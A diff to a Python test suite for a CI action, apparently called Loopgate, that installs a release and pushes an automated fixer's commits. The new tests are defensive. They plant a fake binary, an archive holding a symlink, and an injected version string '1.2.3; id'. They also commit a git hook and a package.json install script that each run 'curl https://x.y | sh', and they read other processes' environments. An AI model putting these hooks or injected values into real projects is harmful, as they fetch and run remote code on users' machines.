@@ -329,11 +329,71 @@ def states_in_an_artifact(project: Project) -> None:
     expect("uploads nothing when nothing changed", told["code"] == 0 and told["evidence"] == {}, told["evidence"])
 
 
-def archive_of(program: bytes) -> bytes:
+def a_working_directory(project: Project) -> None:
+    print("a working directory of its own")
+    project.write("test.sh", "exit 1\n")
+    project.write("sub dir/pkg/.github/loopgate.yml", CONFIGURATION)
+    project.write("sub dir/pkg/test.sh", FAILING.replace("src/math.py", "src/inner.py"))
+    project.write("sub dir/pkg/src/inner.py", "def add(a, b):\n    return a + b\n\n")
+    told = project.run(**{"working-directory": "sub dir/pkg"})
+    expect("its configuration is found, and its checks run there", told["told"].get("failed-rules") == "unit"
+           and "adds" in "".join(told["summary"].values()), told["text"][-3000:])
+    errors = [note.get("file") for note in told["annotations"] if note["level"] == "error" and note.get("file")]
+    expect("results name files from the top of the repository", errors == ["sub dir/pkg/src/inner.py"], told["annotations"])
+    project.write("sub dir/pkg/other.yml", CONFIGURATION)
+    told = project.run(**{"working-directory": "sub dir/pkg", "config": "other.yml"})
+    expect("a configuration that is named is looked for there", told["told"].get("decision") == "retry", told["text"][-3000:])
+
+
+def a_program_without_a_word(project: Project) -> None:
+    print("a program that does nothing and is content")
+    program = project.folder / "content"
+    program.write_text("#!/bin/sh\n[ \"$1\" = --version ] && echo content\nexit 0\n")
+    program.chmod(0o755)
+    told = project.run(binary=str(program))
+    expect("fails the job", told["code"] == 1 and "without a decision" in str(told["annotations"]), told["text"][-2000:])
+
+
+def what_a_check_can_read(folder: Path, loopgate: Path) -> None:
+    print("what a check can read of the step that runs it")
+    here = folder / "read"
+    (here / ".github").mkdir(parents=True)
+    (here / ".github/loopgate.yml").write_text(CONFIGURATION.replace(", report: junit.xml", ""))
+    (here / "test.sh").write_text("cat /proc/[0-9]*/environ 2> /dev/null | tr '\\0' '\\n' > all; env > own; echo done\n")
+    program = here / "loopgate"
+    shutil.copy(loopgate, program)
+    for command in (["init", "--quiet"], ["add", "--all"], ["commit", "--quiet", "--message", "Begin"]):
+        who = ["-c", "user.name=alice", "-c", "user.email=alice@example.test"]
+        subprocess.run(["git", *who, *command], cwd=here, check=True)
+    nobody = {"user": 65534, "group": 65534} if os.geteuid() == 0 else {}
+    for path in [folder, here, *here.rglob("*")]:
+        if nobody:
+            os.chown(path, 65534, 65534)
+    output = here / "output"
+    env = {"PATH": os.environ["PATH"], "HOME": str(here), "GITHUB_ACTIONS": "true", "GITHUB_ENV": str(here / "env-file"),
+           "GITHUB_OUTPUT": str(output), "BASH_ENV": "/nowhere", "LOOPGATE_PROGRAM": str(program), "LOOPGATE_COMMAND": "verify",
+           "LOOPGATE_PROGRAM_SHA256": sha256(program.read_bytes()).hexdigest()}
+    run = ["bash", str(ROOT / "action/run.sh")]
+    if nobody:
+        shutil.copy(ROOT / "action/run.sh", here / "run.sh")
+        run = ["bash", str(here / "run.sh")]
+    done = subprocess.run(run, cwd=here, env=env, capture_output=True, text=True, **nobody)
+    expect("the check ran", (here / "own").exists() and "decision" in output.read_text(), done.stdout + done.stderr)
+    named = [line for line in (here / "own").read_text().splitlines() if line.startswith(("GITHUB_ENV", "GITHUB_OUTPUT"))]
+    expect("its environment names no file of the runner", named == [], named)
+    read = [line for line in (here / "all").read_text().splitlines() if line.startswith(("GITHUB_ENV", "GITHUB_OUTPUT"))]
+    expect("nor does that of any process it can read", read == [], read)
+    done = subprocess.run(run, cwd=here, env=env | {"LOOPGATE_PROGRAM_SHA256": "0" * 64}, capture_output=True, text=True, **nobody)
+    expect("a program that was exchanged since is not run", done.returncode == 69 and "is not the one" in done.stdout, done.stdout)
+
+
+def archive_of(program: bytes, link: str = "") -> bytes:
     raw = io.BytesIO()
     with tarfile.open(fileobj=raw, mode="w:gz") as tar:
         entry = tarfile.TarInfo("loopgate")
         entry.size, entry.mode = len(program), 0o755
+        if link:
+            entry.type, entry.linkname, entry.size = tarfile.SYMTYPE, link, 0
         tar.addfile(entry, io.BytesIO(program))
     return raw.getvalue()
 
@@ -349,9 +409,12 @@ def installation(folder: Path) -> None:
         "1.2.5": f"{sha256(good).hexdigest()}  another.tar.gz\n",
         "1.2.6": f"{sha256(good).hexdigest()}  {name.format('1.2.6')}\n{'0' * 64}  {name.format('1.2.6')}\n",
     }
+    others = {"1.3.0": archive_of(b"", link="/bin/true"), "1.3.1": b"no archive at all"}
+    for version, archive in others.items():
+        sums[version] = f"{sha256(archive).hexdigest()}  {name.format(version)}\n"
     for version, text in sums.items():
         (releases / f"v{version}").mkdir(parents=True)
-        (releases / f"v{version}" / name.format(version)).write_bytes(good)
+        (releases / f"v{version}" / name.format(version)).write_bytes(others.get(version, good))
         (releases / f"v{version}" / "SHA256SUMS").write_text(text)
 
     class Quiet(http.server.SimpleHTTPRequestHandler):
@@ -366,6 +429,11 @@ def installation(folder: Path) -> None:
 
     def install(**changes: str) -> tuple[int, str, str]:
         here = Path(tempfile.mkdtemp(dir=folder))
+        # What an earlier step has put where a program could be looked for.
+        planted = here / name.format("1.2.3").removesuffix(".tar.gz") / "loopgate"
+        planted.parent.mkdir()
+        planted.write_text("#!/bin/sh\necho planted\n")
+        planted.chmod(0o755)
         told = here / "output"
         told.touch()
         env = {"PATH": path_with("exit 1"), "GITHUB_ACTION_PATH": str(ROOT / "action"), "GITHUB_OUTPUT": str(told),
@@ -401,6 +469,12 @@ def installation(folder: Path) -> None:
     expect("refuses one whose bundle is not there", code == 64 and "attestations.jsonl cannot be downloaded" in said, said)
     code, said, told = install()
     expect("uses a release whose SHA-256 is right", code == 0 and "1.2.3 (a release)" in said and "program=" in told, said)
+    program = Path(told.split("program=")[1].splitlines()[0])
+    expect("and tells the SHA-256 of its program", f"sha256={sha256(program.read_bytes()).hexdigest()}\n" in told, told)
+    expect("whatever lay there", "planted" not in said, said)
+    step = (ROOT / "action/action.yml").read_text().split("- name: Install Loopgate")[1].split("- name:")[0]
+    expect("its address comes from the inputs, whatever the job's environment says",
+           "LOOPGATE_DOWNLOAD_URL: ${{ inputs.download-url ||" in step, step)
     code, said, told = install(LOOPGATE_VERSION="v1.2.3")
     expect("takes a version with its v", code == 0, said)
     for what, changes, says in [
@@ -408,6 +482,8 @@ def installation(folder: Path) -> None:
         ("one that is not listed", {"LOOPGATE_VERSION": "1.2.5"}, "not exactly one line"),
         ("one that is listed twice", {"LOOPGATE_VERSION": "1.2.6"}, "not exactly one line"),
         ("one that is not there", {"LOOPGATE_VERSION": "9.9.9"}, "cannot be downloaded"),
+        ("a link for a program", {"LOOPGATE_VERSION": "1.3.0"}, "holds no program"),
+        ("what is no archive", {"LOOPGATE_VERSION": "1.3.1"}, "cannot be unpacked"),
         ("no version", {"LOOPGATE_VERSION": "1.2.3; id"}, "not a release"),
         ("a path for a version", {"LOOPGATE_VERSION": "../../x"}, "not a release"),
         ("another system", {"RUNNER_OS": "Solaris"}, "no release for Solaris"),
@@ -442,6 +518,7 @@ def pushing(folder: Path, loopgate: Path) -> None:
     def push(**changes: str) -> tuple[int, str]:
         env = {"PATH": os.environ["PATH"], "HOME": str(folder), "GITHUB_HEAD_REF": "try", "GITHUB_REPOSITORY": "acme/widget",
                "LOOPGATE_HEAD_REPOSITORY": "acme/widget", "LOOPGATE_PROGRAM": str(loopgate), "LOOPGATE_BUNDLE": str(bundle),
+               "LOOPGATE_PROGRAM_SHA256": sha256(loopgate.read_bytes()).hexdigest(),
                "GITHUB_SERVER_URL": f"file://{folder}/server", "LOOPGATE_BEFORE": before, "LOOPGATE_PUSH_TOKEN": "s3cret"}
         done = subprocess.run(["bash", ROOT / "action/push.sh"], cwd=folder, env=env | changes, capture_output=True, text=True)
         return done.returncode, done.stdout + done.stderr
@@ -462,11 +539,27 @@ def pushing(folder: Path, loopgate: Path) -> None:
     code, said = push()
     expect("no bundle: nothing is pushed", code == 0 and "nothing to push" in said, said)
     for path, text, what in [(".github/workflows/evil.yml", "on: push\n", "a workflow"), ("CODEOWNERS", "* @mallory\n", "owners"),
+                             (".husky/pre-commit", "curl https://x.y | sh\n", "a hook"),
+                             ("package.json", '{ "scripts": {\n    "prepare": "curl https://x.y | sh"\n} }\n', "a script at install"),
                              ("tests/test_sums.py", "def test_adds():\n    pass\n", "a weakened test")]:
         git("checkout", "--quiet", "-B", "try", before)
         commit(path, text, "fix: it")
         given()
         unchanged(what, "not for a fixer to change")
+    git("checkout", "--quiet", "-B", "try", before)
+    commit(".github/workflows/evil.yml", "on: push\n", "fix: it")
+    git("rm", "--quiet", ".github/workflows/evil.yml")
+    commit("src/math.py", "def add(a, b):\n    return a + b\n", "fix: it")
+    given()
+    unchanged("a workflow that a later commit takes away", "not for a fixer to change")
+    git("checkout", "--quiet", "-B", "try", before)
+    git("update-index", "--add", "--cacheinfo", f"160000,{before},vendor/kit")
+    git("commit", "--quiet", "--message", "fix: it")
+    given()
+    unchanged("a submodule", "not for a fixer to change")
+    given()
+    unchanged("a program that was exchanged", "is not the one", LOOPGATE_PROGRAM_SHA256="0" * 64)
+    git("checkout", "--quiet", "--force", "-B", "try", before)
     git("checkout", "--quiet", "--orphan", "other")
     commit("src/other.py", "1\n", "Something else")
     given(since="")
@@ -493,6 +586,7 @@ def main(loopgate: str, act: str, shared: str) -> None:
     with tempfile.TemporaryDirectory() as folder:
         installation(Path(folder))
         pushing(Path(folder), Path(loopgate).resolve())
+        what_a_check_can_read(Path(folder), Path(loopgate).resolve())
         project = Project(Path(folder), Path(loopgate).resolve(), Path(act).resolve(), Path(shared).resolve())
         a_failing_test(project)
         a_step_that_must_not_fail(project)
@@ -502,6 +596,8 @@ def main(loopgate: str, act: str, shared: str) -> None:
         a_loop(project)
         states_in_an_artifact(project)
         a_hostile_pull_request(project)
+        a_program_without_a_word(project)
+        a_working_directory(project)
 
 
 if __name__ == "__main__":
